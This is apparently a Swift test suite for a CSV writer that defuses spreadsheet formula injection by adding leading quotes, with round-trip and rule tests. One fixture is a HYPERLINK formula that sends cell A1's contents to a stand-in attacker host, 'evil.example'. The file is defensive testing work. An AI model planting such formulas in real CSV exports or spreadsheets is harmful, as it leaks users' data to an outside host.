import Foundation
import Testing
@testable import TapformInvite

@Suite("Spreadsheet formulas in every CSV tapform writes")
struct SpreadsheetFormulaTests {
    @Test("--failed-out neutralises names a spreadsheet would run, and they read back as they were")
    func failedRowsAreNeutralised() throws {
        let url = try TemporaryFolder("invite").url.appendingPathComponent("failed.csv")
        let hyperlink = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
        let writer = try FailedRowsWriter(url: url, header: ["email", "first_name", "=last"])
        try writer.write(fields: ["-a@x.io", hyperlink, "@SUM(1+1)"], reason: "+reason")
        try writer.close()

        let text = try String(contentsOf: url, encoding: .utf8)
        #expect(text == "email,first_name,'=last,reason\r\n"
            + #"'-a@x.io,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1),'+reason"# + "\r\n")
        let read = try readAll(bytes: Array(text.utf8))
        #expect(read.header == ["email", "first_name", "=last", "reason"])
        #expect(read.records.map(\.fields) == [["-a@x.io", hyperlink, "@SUM(1+1)", "+reason"]])
    }

    @Test("neutralising is undone exactly by the reader", arguments: [
        "=1+1", "'=1+1", "''=1+1", "+49 151 000", "-", "@", "\tx", "\rx", "'", "''", "'x", "x=1",
        "-5", "+4.5", "'-5", "-5.", "-.5", "-2+3", "1-2", "", "plain", "日本",
    ])
    func roundTrip(text: String) throws {
        let csv = CSVWriter.record(["h"]) + CSVWriter.record([text, "end"])
        #expect(try readAll(csv).records.map(\.fields) == [[text, "end"]], "\(csv.debugDescription)")
    }

    @Test("plain numbers stay numbers; anything that starts a formula gets a leading quote", arguments: [
        ("-5", "-5"), ("+4.5", "+4.5"), ("12", "12"), ("-2+3", "'-2+3"), ("-5.", "'-5."), ("=A1", "'=A1"),
        ("'=A1", "''=A1"), ("'x", "'x"), ("@x", "'@x"),
    ])
    func rule(text: String, written: String) {
        #expect(SpreadsheetFormula.neutralise(text) == written)
    }
}
